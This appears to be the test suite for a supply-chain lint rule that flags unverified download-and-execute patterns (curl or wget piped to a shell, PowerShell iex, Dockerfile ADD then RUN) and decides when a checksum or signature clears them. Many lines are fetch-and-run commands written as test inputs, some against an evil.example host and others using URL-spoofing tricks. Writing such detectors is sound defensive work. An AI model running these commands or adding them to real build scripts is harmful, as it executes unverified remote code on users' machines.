import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { findFetchExecute, findPowerShellFetchExecute } from "../../../src/rules/supply-chain/lib/fetch-execute.js";
import { rule } from "../../../src/rules/supply-chain/fetch-execute.js";
import { powerShellAsShell } from "../../../src/rules/supply-chain/lib/powershell.js";
import { fixtureDir, ruleRunner, runRule } from "../../helpers/run-rule.js";

const run = ruleRunner(rule);
const how = (s: string): string[] => findFetchExecute(s).map((f) => `${f.how}:${f.interpreter}`);

describe("supply-chain/fetch-execute", () => {
  it("weighs only the forms Scorecard counts, and shows the others beside the score", async () => {
    const script = [
      "curl -fsSL https://x.example/a.sh | bash",
      'bash -c "$(curl -fsSL https://x.example/b.sh)"',
      "curl -fsSL https://x.example/c.sh | tee /tmp/c.log | sh",
      "curl -fsSLo d.sh https://x.example/d.sh && sh d.sh",
      "curl -fsSL https://x.example/e.sh > e.sh && sh e.sh",
      "wget https://x.example/f.sh && bash f.sh",
      "python3 <(curl -s https://x.example/g.py)",
      "",
    ].join("\n");
    const { findings } = await run({ "ci.sh": script });
    assert.deepEqual(findings.map((f) => [f.locations[0]?.startLine, f.dependency]), [
      [1, "download-then-run"],
      [2, "other-download"],
      [3, "other-download"],
      [4, "other-download"],
      [5, "download-then-run"],
      [6, "download-then-run"],
      [7, "download-then-run"],
    ]);
  });

  it("weighs a pipe as Scorecard reads it: `sudo` words dropped, then the first word must be the interpreter", async () => {
    const script = [
      "curl -fsSL https://x.example/a.sh | sudo bash",
      "curl -fsSL https://deb.nodesource.com/setup_20.x | sudo -E bash -",
      "sudo curl -fsSL https://x.example/b.sh | sh -s -- -y",
      "",
    ].join("\n");
    const { findings } = await run({ "ci.sh": script });
    assert.deepEqual(findings.map((f) => [f.locations[0]?.startLine, f.evidence["interpreter"], f.dependency]), [
      [1, "bash", "download-then-run"],
      [2, "bash", "other-download"],
      [3, "sh", "download-then-run"],
    ]);
  });

  it("shows downloads run in test data and Containerfiles beside the score, as Scorecard reads neither", async () => {
    const { findings } = await run({
      "testdata/install.sh": "curl -fsSL https://x.example/a.sh | bash\n",
      "src/test/docker/Dockerfile": "FROM scratch\nRUN curl -fsSL https://x.example/b.sh | sh\n",
      Containerfile: "FROM scratch\nRUN curl -fsSL https://x.example/c.sh | sh\n",
      "docker/Dockerfile.ci": "FROM scratch\nRUN curl -fsSL https://x.example/d.sh | sh\n",
    });
    assert.deepEqual(findings.map((f) => [f.locations[0]?.path, f.dependency, f.confidence]), [
      ["Containerfile", "other-download", "high"],
      ["docker/Dockerfile.ci", "download-then-run", "high"],
      // Most likely fixtures.
      ["src/test/docker/Dockerfile", "other-download", "low"],
      ["testdata/install.sh", "other-download", "low"],
    ]);
  });

  it("reads gsutil and the AWS CLI as downloaders, weighing only the forms Scorecard knows (not `aws s3 cp`)", async () => {
    const script = [
      "#!/bin/bash",
      "gsutil cp gs://ci-tools/install.sh /tmp/ && bash /tmp/install.sh",
      "gsutil cat gs://ci-tools/setup.sh | sh",
      "aws s3api get-object --bucket ci-tools --key bin/agent.sh agent.sh && bash agent.sh",
      "aws s3 cp s3://ci-tools/boot.sh - | bash",
      "gsutil -m cp -r gs://ci-tools/data ./data",
      "aws sts get-caller-identity | python3 -c 'import json,sys; print(json.load(sys.stdin))'",
      "gsutil cat gs://ci-tools/post.sh > post.sh && bash post.sh",
      "",
    ].join("\n");
    const { findings } = await run({ "ci.sh": script });
    assert.deepEqual(findings.map((f) => [f.locations[0]?.startLine, f.evidence["url"], f.dependency]), [
      [2, "gs://ci-tools/install.sh", "download-then-run"],
      [3, "gs://ci-tools/setup.sh", "download-then-run"],
      [4, "s3://ci-tools/bin/agent.sh", "download-then-run"],
      [5, "s3://ci-tools/boot.sh", "other-download"],
      // Scorecard remembers the `> post.sh` of any download command it knows.
      [8, "gs://ci-tools/post.sh", "download-then-run"],
    ]);
    assert.equal(findings[2]?.fix, 'aws s3 cp s3://ci-tools/bin/agent.sh agent.sh && echo "<sha256>  agent.sh" | sha256sum -c - && bash agent.sh');
  });

  it("weighs a saved download only when it is run by the path Scorecard remembers for it", async () => {
    const script = [
      "#!/bin/bash",
      "wget -O /tmp/a.sh https://x.example/a.sh && bash /tmp/a.sh",
      "wget -qO /tmp/b.sh https://x.example/b.sh && bash /tmp/b.sh",
      "wget https://x.example/c.sh && bash ./c.sh",
      "curl -fsSL https://x.example/d.sh > /tmp/d.sh && cd /tmp && bash d.sh",
      'bash -c "curl -fsSL https://x.example/e.sh > e.sh && sh e.sh"',
      "",
    ].join("\n");
    const { findings } = await run({ "ci.sh": script });
    assert.deepEqual(findings.map((f) => [f.locations[0]?.startLine, f.evidence["how"], f.dependency]), [
      [2, "download-then-run", "download-then-run"],
      // Scorecard reads -qO as no -O: it remembers b.sh, the URL's name, not /tmp/b.sh.
      [3, "download-then-run", "other-download"],
      [4, "download-then-run", "download-then-run"],
      [5, "download-then-run", "other-download"],
      [6, "download-then-run", "download-then-run"],
    ]);
    // Across the steps of a job too.
    const wf = "name: C\non: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - run: wget https://x.example/t.sh\n      - run: bash t.sh\n      - run: wget -qO /tmp/u.sh https://x.example/u.sh\n      - run: bash /tmp/u.sh\n";
    const steps = await run({ ".github/workflows/ci.yml": wf });
    assert.deepEqual(steps.findings.map((f) => [f.locations[0]?.startLine, f.dependency]), [[8, "download-then-run"], [10, "other-download"]]);
  });

  it("names the file in the fix after the interpreter that runs it", async () => {
    const { findings } = await run({ "setup.sh": "python3 <(curl -s https://example.com/get-tool)\ncurl -s https://example.com/boot | node\n" });
    assert.deepEqual(findings.map((f) => f.fix), [
      'curl -fsSLo install.py https://example.com/get-tool && echo "<sha256>  install.py" | sha256sum -c - && python3 install.py',
      'curl -fsSLo install.js https://example.com/boot && echo "<sha256>  install.js" | sha256sum -c - && node install.js',
    ]);
  });

  it("counts a download run in a workflow or a shell script toward Pinned-Dependencies, and shows one in a Makefile without weighing it, as Scorecard reads no Makefile", async () => {
    const { findings, assessment } = await run({
      ".github/workflows/ci.yml": "name: C\non: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -fsSL https://example.com/install.sh | sh\n",
      Makefile: "tools:\n\tcurl -fsSL https://example.com/tool.sh | bash\n",
    });
    assert.deepEqual(findings.map((f) => [f.locations[0]?.path, f.dependency]), [[".github/workflows/ci.yml", "download-then-run"], ["Makefile", "other-download"]]);
    const check = assessment.checks.find((c) => c.id === "Pinned-Dependencies");
    assert.deepEqual([check?.score, check?.reason], [0, "pinned: 0/1 downloaded scripts run; not weighed, as Scorecard does not count them: 0/1 downloaded scripts run where Scorecard does not look (Makefiles, PowerShell, the repository's own actions, other shells, test data, Containerfiles)"]);
  });

  it("reports pipes, substitutions and download-then-run in workflows, Dockerfiles, scripts and Makefiles", async () => {
    const { findings } = await runRule(rule, fixtureDir(rule.meta.id, "bad"));
    assert.deepEqual(findings.map((f) => [f.locations[0]?.path, f.locations[0]?.startLine, f.locations[0]?.startColumn, f.evidence["how"]]), [
      [".github/workflows/ci.yml", 8, 14, "pipe"],
      [".github/workflows/ci.yml", 11, 11, "substitution"],
      ["Dockerfile", 3, 5, "pipe"],
      ["Makefile", 3, 3, "pipe"],
      ["scripts/fetch-tool.sh", 4, 1, "download-then-run"],
      ["scripts/install.ps1", 2, 1, "variable"],
      ["scripts/setup.sh", 3, 1, "download-then-run"],
    ]);
    assert.equal(findings[5]!.fix, "Invoke-WebRequest https://get.example.com/tool/install.ps1 -OutFile install.ps1; if ((Get-FileHash install.ps1 -Algorithm SHA256).Hash -ne '<sha256>') { throw 'checksum mismatch' }; & ./install.ps1");
    assert.equal(findings[6]!.fix, 'curl -fsSLo install-poetry.py https://install.python-poetry.org && echo "<sha256>  install-poetry.py" | sha256sum -c - && python3 install-poetry.py');
    assert.equal(findings[2]!.fix, "ADD --checksum=sha256:<sha256> https://deb.nodesource.com/setup_20.x /tmp/setup_20.x\nRUN bash /tmp/setup_20.x".replace("setup_20.x\nRUN bash /tmp/setup_20.x", "install.sh\nRUN bash /tmp/install.sh"));
  });

  it("finds the classic forms", () => {
    assert.deepEqual(how("curl -fsSL https://get.example.io | sudo -E bash -"), ["pipe:bash"]);
    assert.deepEqual(how("wget -O - https://x.example/i.sh | gunzip | sh"), ["pipe:sh"]);
    assert.deepEqual(how("curl https://x.example/get.py | python3"), ["pipe:python3"]);
    assert.deepEqual(how('/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"'), ["substitution:bash"]);
    assert.deepEqual(how("source <(curl -s https://x.example/env)"), ["substitution:source"]);
    assert.deepEqual(how('eval "$(wget -qO- https://x.example/init)"'), ["substitution:eval"]);
    assert.deepEqual(how("wget https://x.example/install.sh\nchmod +x install.sh\n./install.sh --prefix /usr"), ["download-then-run:install.sh"]);
    assert.deepEqual(how("curl -L -o /tmp/i.sh https://x.example/i.sh && bash /tmp/i.sh"), ["download-then-run:bash"]);
  });

  it("stays quiet on downloads that are not executed, verified ones, and immutable URLs", () => {
    assert.deepEqual(how("curl -s https://api.github.com/x | jq -r .tag_name"), []);
    assert.deepEqual(how("curl -s https://x.example/a.json | python3 -c 'import json,sys; json.load(sys.stdin)'"), []);
    assert.deepEqual(how("curl -sSL https://x.example/a.tgz | tar xz"), []);
    assert.deepEqual(how("curl -fsSLo i.sh https://x.example/i.sh\nsha256sum -c i.sh.sha256\nsh i.sh"), []);
    assert.deepEqual(how(`curl -fsSL https://raw.githubusercontent.com/o/r/${"ab12".repeat(10)}/install.sh | sh`), []);
    assert.deepEqual(how("echo 'curl https://x | sh'"), []);
    assert.deepEqual(how("# curl https://x | sh"), []);
  });

  it("is incomplete when a workflow uses a local action the checkout does not hold: its scripts were never read", async () => {
    const wf = "name: CI\non: push\npermissions: {}\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ./.github/actions/setup\n";
    const r = await run({ ".github/workflows/ci.yml": wf });
    assert.equal(r.outcome, "incomplete");
    assert.match(r.assessment.rules[0]?.reason ?? "", /ci\.yml:8:15: uses \.\/\.github\/actions\/setup, which the checkout does not hold/);
    const held = await run({ ".github/workflows/ci.yml": wf, ".github/actions/setup/action.yml": "name: Setup\ndescription: d\nruns:\n  using: composite\n  steps:\n    - run: curl -fsSL https://get.example.org | sh\n      shell: bash\n" });
    assert.deepEqual(held.findings.map((f) => f.locations[0]?.path), [".github/actions/setup/action.yml"]);
  });

  it("follows a download into a later step of the same job", async () => {
    const wf = "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -fsSLo get.sh https://x.example/get.sh\n      - run: bash get.sh\n";
    const { findings } = await run({ ".github/workflows/a.yml": wf });
    assert.deepEqual(findings.map((f) => [f.locations[0]?.startLine, f.evidence["how"]]), [[7, "download-then-run"]]);
  });

  it("reads ONBUILD RUN, which runs in every image built FROM this one", async () => {
    const { findings } = await run({ Dockerfile: "FROM a\nONBUILD RUN curl -fsSL https://x.example/i | sh\nONBUILD ADD . /src\n" });
    assert.deepEqual(findings.map((f) => [f.locations[0]?.startLine, f.locations[0]?.startColumn, f.evidence["how"]]), [[2, 13, "pipe"]]);
  });

  it("reads ONBUILD RUN's exec form and heredocs as a RUN's", async () => {
    const { findings } = await run({ Dockerfile: 'FROM a\nONBUILD RUN ["sh", "-c", "curl -fsSL https://x.example/i | sh"]\nONBUILD RUN <<EOF\nwget -qO- https://y.example/j | bash\nEOF\n' });
    assert.deepEqual(findings.map((f) => [f.locations[0]?.startLine, f.locations[0]?.startColumn]), [
      [2, 27],
      [4, 1],
    ]);
  });

  it("reads RUN heredocs and exec-form shells in Dockerfiles", async () => {
    const { findings } = await run({ Dockerfile: 'FROM a\nRUN <<EOF\nset -e\ncurl -fsSL https://x.example/i | sh\nEOF\nRUN ["/bin/sh", "-c", "wget -qO- https://y.example/j | bash"]\n' });
    assert.deepEqual(findings.map((f) => [f.locations[0]?.startLine, f.locations[0]?.startColumn]), [
      [4, 1],
      [6, 24],
    ]);
  });

  it("finds PowerShell's download-and-invoke", () => {
    assert.equal(findPowerShellFetchExecute("iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))").length, 1);
    assert.equal(findPowerShellFetchExecute("irm https://get.scoop.sh | iex").length, 1);
    assert.equal(findPowerShellFetchExecute("Invoke-WebRequest https://x -OutFile x.zip").length, 0);
  });

  it("reads PowerShell strings as text, not as commands", () => {
    assert.equal(findPowerShellFetchExecute("throw 'Not installed. Run: iwr -useb https://example.com/install.ps1 | iex'").length, 0);
    assert.equal(findPowerShellFetchExecute('Write-Host "To remove: irm https://example.com/install.ps1 | iex -Uninstall"').length, 0);
    assert.equal(findPowerShellFetchExecute('Invoke-Expression "& { $(Invoke-RestMethod https://example.com/install.ps1) }"').length, 1);
    assert.equal(findPowerShellFetchExecute("Invoke-WebRequest -useb example.org/install.ps1 | Invoke-Expression")[0]?.url, "example.org/install.ps1");
  });

  it("reports a PowerShell pipe once, and a PowerShell download that Start-Process runs", async () => {
    const pipe = await run({ "setup.ps1": "Invoke-WebRequest -useb example.org/install.ps1 | Invoke-Expression\n" });
    assert.equal(pipe.findings.length, 1);
    const script = [
      '$Url = "https://example.com/releases/latest/download/setup.exe"',
      '$Path = "$env:TEMP\\setup.exe"',
      "try {",
      "    Invoke-WebRequest -Uri $Url -OutFile $Path -UseBasicParsing",
      "} catch {",
      '    Write-Host "Download failed: $_`nCheck the network."',
      "}",
      '$proc = Start-Process -FilePath $Path -ArgumentList "/S" -Wait -PassThru',
      "",
    ].join("\n");
    const ran = await run({ "install.ps1": script });
    assert.deepEqual(ran.findings.map((f) => [f.locations[0]?.startLine, f.evidence["how"]]), [[4, "download-then-run"]]);
    const checked = [
      "Invoke-WebRequest -Uri $Url -OutFile $Path",
      "if ((Get-FileHash $Path -Algorithm SHA256).Hash -ne $Expected) { throw 'checksum mismatch' }",
      "Start-Process -FilePath $Path -Wait",
      "",
    ].join("\n");
    assert.equal((await run({ "install.ps1": checked })).findings.length, 0);
  });

  it("follows a download made executable and run by its name from PATH", () => {
    assert.deepEqual(how("curl -LO https://x.example/releases/download/v3/helm\nchmod +x helm\ncp helm $BIN/helm\nhelm version --client"), ["download-then-run:helm"]);
    assert.deepEqual(how("curl -LO https://x.example/helm\nhelm version"), []);
    assert.deepEqual(how("curl -LO https://x.example/helm\nsha256sum -c helm.sha256\nchmod 755 helm\nhelm version"), []);
  });

  it("reads PowerShell block comments as comments and Windows paths as paths", async () => {
    const lenovo = ["<#", ".SYNOPSIS", "    Installs the tool if it's not installed.", "#>", '$installerPath = "$env:TEMP\\setup.exe"', "Invoke-WebRequest -Uri $Url -OutFile $installerPath", 'Start-Process -FilePath $installerPath -ArgumentList "/S" -Wait', ""].join("\n");
    assert.deepEqual((await run({ "install.ps1": lenovo })).findings.map((f) => [f.locations[0]?.startLine, f.evidence["how"]]), [[6, "download-then-run"]]);
    const getPip = "curl https://bootstrap.pypa.io/get-pip.py -o get-pip.py\nC:\\Python38\\python get-pip.py\n";
    assert.deepEqual((await run({ "setup.ps1": getPip })).findings.map((f) => [f.locations[0]?.startLine, f.evidence["interpreter"]]), [[1, "python"]]);
  });

  it("follows an ADD into a PowerShell RUN that starts it by its Windows path", async () => {
    const df = 'FROM mcr.microsoft.com/powershell:7.4-windowsservercore-ltsc2022\nSHELL ["pwsh", "-Command"]\nADD https://x.example/python-3.12.exe /python-3.12.exe\nRUN C:\\\\python-3.12.exe /quiet InstallAllUsers=1\n';
    assert.deepEqual((await run({ Dockerfile: df })).findings.map((f) => [f.locations[0]?.startLine, f.evidence["how"]]), [[4, "download-then-run"]]);
  });

  it("survives hostile scripts", () => {
    findFetchExecute("curl x |".repeat(10_000));
    findFetchExecute("wget https://x/a.sh\n".repeat(3_000) + "./a.sh\n".repeat(3_000));
    findFetchExecute('bash -c "$(curl '.repeat(2_000));
    powerShellAsShell("<#".repeat(20_000) + "`".repeat(20_000));
  });
});

describe("supply-chain/fetch-execute in Dockerfiles", () => {
  const run = ruleRunner(rule);
  it("follows ADD URL without --checksum into the RUN that executes it", async () => {
    const bad = await run({ Dockerfile: "FROM a\nADD https://x.example/install.sh /tmp/\nRUN sh /tmp/install.sh\n" });
    assert.deepEqual(bad.findings.map((f) => [f.locations[0]?.startLine, f.evidence["how"]]), [[3, "download-then-run"]]);
    const good = await run({ Dockerfile: "FROM a\nADD --checksum=sha256:" + "a".repeat(64) + " https://x.example/install.sh /tmp/\nRUN sh /tmp/install.sh\nADD https://x.example/data.tgz /data/\n" });
    assert.deepEqual(good.findings, []);
  });
});

describe("supply-chain/fetch-execute in nested shells and published actions", () => {
  const run = ruleRunner(rule);
  it("reads the script of sh -c", () => {
    assert.deepEqual(how("sudo sh -c 'curl -fsSL https://x.example/i | bash'"), ["pipe:bash"]);
  });
  it("reads composite actions that no workflow calls", async () => {
    const action = "name: setup\nruns:\n  using: composite\n  steps:\n    - shell: bash\n      run: curl -fsSL https://x.example/i.sh | bash\n";
    const { findings } = await run({ "action.yml": action });
    assert.deepEqual(findings.map((f) => [f.locations[0]?.path, f.locations[0]?.startLine]), [["action.yml", 6]]);
  });
  it("is incomplete, not passed, when a Dockerfile or workflow it would read cannot be read or parsed", async () => {
    const dockerfile = "FROM alpine:3.20\nRUN wget -qO- https://x.example/i.sh | sh\n";
    assert.equal((await run({ Dockerfile: Buffer.from(`${dockerfile}\u0000\u0000\u0000`) })).outcome, "incomplete");
    // A UTF-16 file with its byte order mark is read as the text it is, and judged.
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(dockerfile, "utf16le")]);
    assert.equal((await run({ Dockerfile: utf16 })).outcome, "fail");
    assert.equal((await run({ ".github/workflows/ci.yml": "on: push\njobs:\n  a:\n    steps: [\n" })).outcome, "incomplete");
  });
});


describe("supply-chain/fetch-execute: a check clears only the download it checks, against a pinned value", () => {
  const run = ruleRunner(rule);
  const SHA = "24454f830cdb571e2c4ad15481119c43b3cafd48dd869a9b2945d1036d1dc68d";
  const DL = "curl -fsSLo /tmp/i.sh https://get.example.com/i.sh\n";
  const ran = (between: string): string[] => how(`${DL}${between}\nsh /tmp/i.sh`);

  it("does not take a checking tool run for something else for a check", () => {
    for (const between of ["sha256sum /tmp/i.sh", "shasum -a 256 /tmp/i.sh", "openssl version", "openssl dgst -sha256 /tmp/i.sh", "gpg --import keys/release.asc", "cosign version", "minisign -Sm /tmp/i.sh", "gh attestation download /tmp/i.sh --owner o"]) {
      assert.deepEqual(ran(between), ["download-then-run:sh"], between);
    }
  });

  it("does not clear a download that the check does not name", () => {
    const two = "curl -fsSLo a.sh https://get.example.com/a.sh\ncurl -fsSLo b.sh https://get.example.com/b.sh\n";
    assert.deepEqual(how(`${two}echo "${SHA}  a.sh" | sha256sum -c -\nsh a.sh\nsh b.sh`), ["download-then-run:sh"]);
    assert.equal(findFetchExecute(`${two}echo "${SHA}  a.sh" | sha256sum -c -\nsh a.sh\nsh b.sh`)[0]?.file, "b.sh");
    assert.deepEqual(how(`${two}sha256sum -c a.sh.sha256\nsh b.sh`), ["download-then-run:sh"]);
    assert.deepEqual(how(`${two}gpg --verify a.sh.asc a.sh\nsh b.sh`), ["download-then-run:sh"]);
    assert.deepEqual(how(`${two}[ "$(sha256sum a.sh | cut -d' ' -f1)" = "${SHA}" ]\nsh b.sh`), ["download-then-run:sh"]);
  });

  it("does not count a checksum the script computed from the download, or downloaded beside it unchecked", () => {
    assert.deepEqual(how(`wget -q https://get.example.com/i.sh && sha256sum i.sh > i.sh.sha256 && sha256sum -c i.sh.sha256 && sh i.sh`), ["download-then-run:sh"]);
    assert.deepEqual(how(`F=i.sh\ncurl -fsSLo "$F" https://get.example.com/i.sh\nsha256sum "$F" > "$F.sha256"\nsha256sum -c "$F.sha256"\nsh "$F"`), ["download-then-run:sh"]);
    assert.deepEqual(ran("sha256sum /tmp/i.sh | sha256sum -c -"), ["download-then-run:sh"]);
    assert.deepEqual(ran("sha256sum -c <(sha256sum /tmp/i.sh)"), ["download-then-run:sh"]);
    assert.deepEqual(ran('echo "$(sha256sum /tmp/i.sh)" | sha256sum -c'), ["download-then-run:sh"]);
    assert.deepEqual(ran("curl -fsSLO https://get.example.com/i.sh.sha256\nsha256sum -c i.sh.sha256"), ["download-then-run:sh"]);
    assert.deepEqual(ran("curl -fsSL https://get.example.com/i.sh.sha256 | sha256sum -c -"), ["download-then-run:sh"]);
    assert.deepEqual(ran('SUM=$(curl -fsSL https://get.example.com/i.sh.sha256)\necho "$SUM  i.sh" | sha256sum -c -'), ["download-then-run:sh"]);
    const padding = Array.from({ length: 1_000 }, (_, i) => `V${i}=$(curl -fsSL https://get.example.com/${i})`).join("\n");
    assert.deepEqual(ran(`${padding}\nSUM=$(curl -fsSL https://get.example.com/i.sh.sha256)\necho "$SUM  i.sh" | sha256sum -c -`), ["download-then-run:sh"]);
    assert.deepEqual(ran('A=$(sha256sum /tmp/i.sh)\n[ "$A" = "$(sha256sum /tmp/i.sh)" ] || exit 1'), ["download-then-run:sh"]);
    assert.deepEqual(ran('[ "$(sha256sum /tmp/i.sh)" != "" ]'), ["download-then-run:sh"]);
  });

  it("still clears a download checked against a written or kept hash, or by its signature", () => {
    for (const between of [
      `echo "${SHA}  /tmp/i.sh" | sha256sum -c -`,
      `echo "${SHA} *i.sh" | shasum -a 256 --check`,
      `printf '%s  %s\\n' "$INSTALLER_SHA256" i.sh | sha256sum -c --status`,
      `sha256sum -c <<< "${SHA}  i.sh"`,
      `sha256sum -c <<EOF\n${SHA}  i.sh\nEOF`,
      'sha256sum -c <(echo "$INSTALLER_SHA256  i.sh")',
      `echo "${SHA}  i.sh" > i.sh.sha256\nsha256sum -c i.sh.sha256`,
      "sha256sum -c checksums/i.sh.sha256",
      "sha256sum --check --ignore-missing SHA256SUMS",
      'grep " i.sh$" SHA256SUMS | sha256sum -c -',
      `[ "$(sha256sum /tmp/i.sh | cut -d' ' -f1)" = "${SHA}" ] || exit 1`,
      "ACTUAL=$(sha256sum /tmp/i.sh | awk '{print $1}')\nif [ \"$ACTUAL\" != \"$EXPECTED\" ]; then exit 1; fi",
      `sha256sum /tmp/i.sh | grep -q ${SHA}`,
      "gpg --batch --verify /tmp/i.sh.asc /tmp/i.sh",
      "gpgv --keyring ./release.gpg i.sh.sig i.sh",
      "cosign verify-blob --key cosign.pub --signature i.sh.sig /tmp/i.sh",
      "cosign verify-blob /tmp/i.sh --bundle i.sh.sigstore.json --certificate-identity https://github.com/o/r/.github/workflows/r.yml@refs/tags/v1 --certificate-oidc-issuer https://token.actions.githubusercontent.com",
      "minisign -Vm /tmp/i.sh -P RWQf6LRCGA9i53mlYecO4IzT51TGPpvWucNSCh1CBM0QTaLn73Y7GFO3",
      "signify -V -p release.pub -x i.sh.sig -m /tmp/i.sh",
      "openssl dgst -sha256 -verify release.pem -signature i.sh.sig /tmp/i.sh",
      "slsa-verifier verify-artifact /tmp/i.sh --provenance-path i.intoto.jsonl --source-uri github.com/o/r",
      "gh attestation verify /tmp/i.sh --owner o",
    ]) {
      assert.deepEqual(ran(between), [], between);
    }
  });

  it("follows a signed checksum list: its signature checked, then the files it lists", () => {
    const sums = "curl -fsSLO https://get.example.com/SHA256SUMS\ncurl -fsSLO https://get.example.com/SHA256SUMS.asc\n";
    assert.deepEqual(ran(`${sums}gpg --verify SHA256SUMS.asc SHA256SUMS\nsha256sum -c --ignore-missing SHA256SUMS`), []);
    assert.deepEqual(ran(`${sums}sha256sum -c --ignore-missing SHA256SUMS`), ["download-then-run:sh"]);
  });

  it("reports a Dockerfile RUN that prints the hash of an earlier RUN's download and checks nothing", async () => {
    const df = "FROM alpine:3.20\nRUN wget -q https://get.example.com/install.sh -O /tmp/install.sh\nRUN sha256sum /tmp/install.sh\nRUN sh /tmp/install.sh\n";
    assert.deepEqual((await run({ Dockerfile: df })).findings.map((f) => [f.locations[0]?.startLine, f.evidence["how"]]), [[4, "download-then-run"]]);
    const checked = df.replace("RUN sha256sum /tmp/install.sh", `RUN echo "${SHA}  /tmp/install.sh" | sha256sum -c -`);
    assert.deepEqual((await run({ Dockerfile: checked })).findings, []);
  });

  it("checks a PowerShell download by the hash compared on its line or through a variable, not a hash only printed", () => {
    const psHow = (s: string): string[] => findFetchExecute(powerShellAsShell(s)).map((f) => `${f.how}:${f.file}`);
    const get = "Invoke-WebRequest -Uri $Url -OutFile $Path\n";
    const start = "Start-Process -FilePath $Path -Wait\n";
    assert.deepEqual(psHow(`${get}Get-FileHash $Path\n${start}`), ["download-then-run:$Path"]);
    assert.deepEqual(psHow(`${get}$h = Get-FileHash -Path $Path -Algorithm SHA256\nif ($h.Hash -ne $Expected) { throw 'bad' }\n${start}`), []);
    assert.deepEqual(psHow(`${get}if ((Get-AuthenticodeSignature $Path).Status -ne 'Valid') { throw 'unsigned' }\n${start}`), []);
    assert.deepEqual(psHow(`Invoke-WebRequest -Uri $Url -OutFile setup.exe\ncertutil -hashfile setup.exe SHA256 | findstr /i ${SHA}\n& ./setup.exe\n`), []);
  });

  it("stays linear on hostile checks", () => {
    let dl = "";
    for (let i = 0; i < 3_000; i++) dl += `curl -o f${i}.sh https://x/f${i}.sh\n`;
    findFetchExecute(dl + "sha256sum -c SUMS\n".repeat(3_000) + "sh f1.sh\n");
    findFetchExecute(dl + "grep f1.sh SUMS | sha256sum -c\n".repeat(3_000));
    findFetchExecute("curl -o a https://x/a; " + "Get-FileHash a; ".repeat(10_000));
    findFetchExecute("a | ".repeat(5_000) + "sha256sum -c > x | ".repeat(5_000));
    findFetchExecute(powerShellAsShell("$h = Get-FileHash a\n".repeat(3_000) + "if ($h -ne 1) {}\n".repeat(3_000)));
    findPowerShellFetchExecute(Array.from({ length: 10_000 }, (_, i) => `$v${i} = irm https://x/a`).join("\n") + `\n${"iex " + "$q ".repeat(900)}\n`.repeat(100));
  });
});

describe("supply-chain/fetch-execute: a URL is pinned only when it is content-addressed by a commit", () => {
  const C = "0123456789abcdef0123456789abcdef01234567";
  const piped = (url: string): string[] => how(`curl -fsSL ${url} | sh`);

  it("accepts raw files at a commit on the forges that address them by it", () => {
    for (const url of [
      `https://raw.githubusercontent.com/o/r/${C}/install.sh`,
      `https://github.com/o/r/raw/${C}/scripts/install.sh`,
      `https://gist.githubusercontent.com/u/1a2b3c/raw/${C}/install.sh`,
      `https://gitlab.com/group/sub/project/-/raw/${C}/install.sh`,
      `https://bitbucket.org/o/r/raw/${C}/install.sh`,
      `https://codeberg.org/o/r/raw/commit/${C}/install.sh`,
      `https://cdn.jsdelivr.net/gh/o/r@${C}/install.sh`,
    ]) {
      assert.deepEqual(piped(url), [], url);
    }
  });

  it("rejects a hash on any other host, dot segments, encoded dots, user information, plain HTTP and a second URL", () => {
    for (const url of [
      `https://evil.example/${C}/install.sh`,
      `https://get.example.com/install.sh?ref=${C}/`,
      `https://raw.githubusercontent.com/o/r/${C}/../refs/heads/main/install.sh`,
      `https://raw.githubusercontent.com/o/r/${C}/./x/../../main/install.sh`,
      `https://raw.githubusercontent.com/o/r/${C}/%2e%2e/main/install.sh`,
      `https://raw.githubusercontent.com/o/r/${C}/%2E%2E/main/install.sh`,
      `https://raw.githubusercontent.com@evil.example/o/r/${C}/install.sh`,
      `http://raw.githubusercontent.com/o/r/${C}/install.sh`,
      `https://raw.githubusercontent.com/o/r/${C}/install.sh https://evil.example/more.sh`,
      `https://raw.githubusercontent.com/o/r/main/${C}/install.sh`,
      `https://codeberg.org/o/r/raw/${C}/install.sh`,
    ]) {
      assert.deepEqual(piped(url), ["pipe:sh"], url);
    }
  });

  it("judges the URL of a substitution and of a saved download the same way", () => {
    assert.deepEqual(how(`bash -c "$(curl -fsSL https://evil.example/${C}/i.sh)"`), ["substitution:bash"]);
    assert.deepEqual(how(`curl -fsSLo i.sh https://raw.githubusercontent.com/o/r/${C}/../main/i.sh\nsh i.sh`), ["download-then-run:sh"]);
    assert.deepEqual(how(`curl -fsSLo i.sh https://raw.githubusercontent.com/o/r/${C}/i.sh\nsh i.sh`), []);
    assert.equal(findPowerShellFetchExecute(`irm https://evil.example/${C}/i.ps1 | iex`).length, 1);
  });
});

describe("supply-chain/fetch-execute: PowerShell's two-line forms", () => {
  const run = ruleRunner(rule);

  it("follows downloaded content kept in a variable to the line that invokes it", () => {
    const lines = (s: string): string[] => findPowerShellFetchExecute(s).map((f) => `${f.how}:${f.interpreter}:${f.url}`);
    assert.deepEqual(lines("$s = Invoke-RestMethod https://get.example.com/i.ps1\nInvoke-Expression $s\n"), ["variable:Invoke-Expression:https://get.example.com/i.ps1"]);
    assert.deepEqual(lines("$url = 'https://get.example.com/i.ps1'\n$script = irm $url\niex $script\n"), ["variable:iex:https://get.example.com/i.ps1"]);
    assert.deepEqual(lines("$s = (New-Object Net.WebClient).DownloadString('https://get.example.com/a.ps1')\nInvoke-Expression $s\n"), ["variable:Invoke-Expression:https://get.example.com/a.ps1"]);
    assert.deepEqual(lines("$r = Invoke-WebRequest https://get.example.com/c.ps1 -UseBasicParsing\n$code = $r.Content\n& ([scriptblock]::Create($code))\n"), ["variable:[scriptblock]::Create:https://get.example.com/c.ps1"]);
    // However many variables come before, the one invoked is followed.
    const padded = Array.from({ length: 1_000 }, (_, i) => `$v${i} = irm https://get.example.com/${i}.ps1`).join("\n") + "\niex $v999\n";
    assert.deepEqual(lines(padded), ["variable:iex:https://get.example.com/999.ps1"]);
    // Reassigned, saved to a file, or only named in a string: nothing runs the download.
    assert.deepEqual(lines("$s = irm https://get.example.com/i.ps1\n$s = 'Write-Host hi'\niex $s\n"), []);
    assert.deepEqual(lines("$r = iwr https://get.example.com/i.ps1 -OutFile i.ps1\niex $r\n"), []);
